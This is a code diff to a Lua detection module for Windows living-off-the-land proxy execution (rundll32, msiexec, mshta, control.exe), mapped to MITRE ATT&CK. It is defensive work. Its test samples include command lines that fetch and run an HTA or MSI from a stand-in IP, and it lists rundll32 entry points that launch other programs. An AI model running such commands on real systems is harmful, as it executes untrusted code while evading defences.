@@ -3,13 +3,14 @@
 
 local command = require "kaiseki.command"
 local lineage = require "kaiseki.lineage"
+local memory = require "kaiseki.memory"
 local say = require "kaiseki.say"
 local windows = require "kaiseki.windows"
 
 -- The first argument that names a file in a user's place.
 local function user_file(each, case)
     for i = 2, #each.words do
-        local word = each.words[i]:gsub(",.*$", "")
+        local word = windows.backslashed(each.words[i]:gsub(",.*$", "")):gsub("[}%).]+$", "")
         if word:find("\\", 1, true) and windows.in_user_place(word, case) then return word end
     end
     return nil
@@ -37,16 +38,30 @@ local function regsvr32_target(each, case)
     local target = user_file_or_url(each, case)
     if target then return target end
     for i = 2, #each.words do
-        if near_other_root(each.words[i], case) then return each.words[i] end
+        local word = windows.backslashed(each.words[i])
+        if near_other_root(word, case) then return word end
     end
     return nil
 end
 
+-- Entry points of Windows' own libraries that run what follows them.
+local RUNNERS = {
+    "shellexec_rundll", "routethecall", "launchapplication", "openurl", "fileprotocolhandler", "registerocx",
+    "launchinfsection",
+}
+
+local function is_runner(each)
+    for _, name in ipairs(RUNNERS) do
+        if each.folded:find(name, 1, true) then return true end
+    end
+    return false
+end
+
 -- rundll32 also runs a library that has another extension, or none.
 local function rundll32_target(each, case)
-    local target = script_text(each) or url(each)
+    local target = script_text(each) or url(each) or (is_runner(each) and user_file(each, case))
     if target then return target end
-    local library = (each.words[2] or ""):gsub(",.*$", "")
+    local library = windows.backslashed(each.words[2] or ""):gsub(",.*$", "")
     local foreign = windows.in_user_place(library, case) or near_other_root(library, case)
     return foreign and library or nil
 end
@@ -62,7 +77,7 @@ end
 
 local function msiexec_target(each, case)
     local quiet = each:has("/q", "/quiet", "/qn", "/qb", "/passive")
-    return url(each) or (quiet and each:has("/i", "/package", "/y", "/z") and user_file(each, case)) or nil
+    return url(each) or (quiet and each:has("/i", "/package") or each:has("/y", "/z")) and user_file(each, case) or nil
 end
 
 local function wmic_target(each)
@@ -79,6 +94,7 @@ local ROWS = {
     { id = "defense-evasion.rundll32", programs = { "rundll32" }, attack = "T1218.011", target = rundll32_target,
       what = "has rundll32 run",
       match = [[rundll32.exe C:\Users\x\AppData\Roaming\a\b.dll, Main]],
+      other = [[rundll32 shell32.dll,ShellExec_RunDLL regsvr32 "C:/ProgramData/a/b.etl"]],
       no_match = "rundll32.exe shell32.dll,Control_RunDLL desk.cpl" },
     { id = "defense-evasion.regsvr32", programs = { "regsvr32" }, attack = "T1218.010", target = regsvr32_target,
       what = "has regsvr32 run",
@@ -90,7 +106,7 @@ local ROWS = {
       match = "mshta http://203.0.113.5/a.hta",
       no_match = [[mshta "C:\Program Files\Tool\about.hta"]] },
     { id = "defense-evasion.msiexec", programs = { "msiexec" }, attack = "T1218.007", target = msiexec_target,
-      what = "has msiexec quietly install",
+      what = "has msiexec quietly install", is_administration = true,
       match = "msiexec /q /i http://203.0.113.5/a.msi",
       no_match = [[msiexec /i "C:\Users\x\Downloads\viewer.msi"]] },
     { id = "defense-evasion.installutil", programs = { "installutil", "regasm", "regsvcs" }, attack = "T1218.004",
@@ -110,6 +126,10 @@ local ROWS = {
       what = "has odbcconf run",
       match = [[odbcconf /a {REGSVR C:\Users\Public\a.dll}]],
       no_match = [[odbcconf /a {REGSVR C:\Windows\System32\odbc.dll}]] },
+    { id = "defense-evasion.control", programs = { "control" }, attack = "T1218.002", target = user_file,
+      what = "has the Control Panel run",
+      match = [[control.exe C:\Users\x\AppData\Local\Temp\a.cpl]],
+      no_match = "control.exe /name Microsoft.Sound" },
     { id = "defense-evasion.indirect", programs = { "forfiles", "pcalua", "scriptrunner", "conhost" },
       attack = "T1202",
       target = function(each, case)
@@ -149,6 +169,13 @@ local ROWS = {
       no_match = "curl http://203.0.113.5/status" },
 }
 
+-- cmd.exe takes carets out of a name before it runs it.
+local function with_carets(programs)
+    local parts = { "^" }
+    for _, name in ipairs(programs) do parts[#parts + 1] = name end
+    return parts
+end
+
 local function runs(row)
     local programs = {}
     for _, name in ipairs(row.programs) do programs[name] = true end
@@ -160,6 +187,19 @@ end
 local function example(line)
     return { operation = "Process Create", path = [[C:\Windows\System32\tool.exe]], ["process.name"] = "a.exe",
              ["child.command_line"] = line }
+end
+
+local told = memory.of_case()
+
+-- A package from a disk is how administrators and setup programs install; of the sample's tree it is another matter.
+local function weigh(case, id)
+    for _, each in ipairs(told(case)) do
+        local child = lineage.started(case:event(each.index))
+        local in_tree = each.process.in_tree or (child and child.in_tree)
+        if each.id == id and not in_tree and not windows.has_url(each.key) then
+            case:finding { process = each.process, key = each.key, severity = "medium" }
+        end
+    end
 end
 
 for _, row in ipairs(ROWS) do
@@ -174,13 +214,17 @@ for _, row in ipairs(ROWS) do
         references = { "https://attack.mitre.org/techniques/" .. row.attack:gsub("%.", "/") .. "/" },
         false_positives = { "Administrators, and setup programs of per-user products." },
         author = "kaiseki",
-        match = operation:is "Process Create" & child.command_line:contains(row.programs),
+        match = operation:is "Process Create" & child.command_line:contains(with_carets(row.programs)),
         on_event = function(event, case)
             local found = command.first(event.child.command_line, function(each) return target(each, case) end)
-            if found then
-                case:finding { process = lineage.requester(event.process), key = found, event = event }
+            if not found then return end
+            local requester, list = lineage.requester(event.process), told(case)
+            if row.is_administration then
+                list[#list + 1] = { id = row.id, process = requester, key = found, index = event.index }
             end
+            case:finding { process = requester, key = found, event = event }
         end,
+        on_finish = row.is_administration and function(case) weigh(case, row.id) end or nil,
         finding = function(finding)
             local starter = finding.events[1].process
             local other = starter.pid and starter ~= finding.process
@@ -188,6 +232,9 @@ for _, row in ipairs(ROWS) do
                 and (", through %s"):format(say.process(starter)) or ""
             return ("%s %s %s%s"):format(say.process(finding.process), row.what, say.command(finding.key), through)
         end,
-        examples = { match = { example(row.match) }, no_match = { example(row.no_match) } },
+        examples = {
+            match = { example(row.match), row.other and example(row.other) },
+            no_match = { example(row.no_match) },
+        },
     }
 end
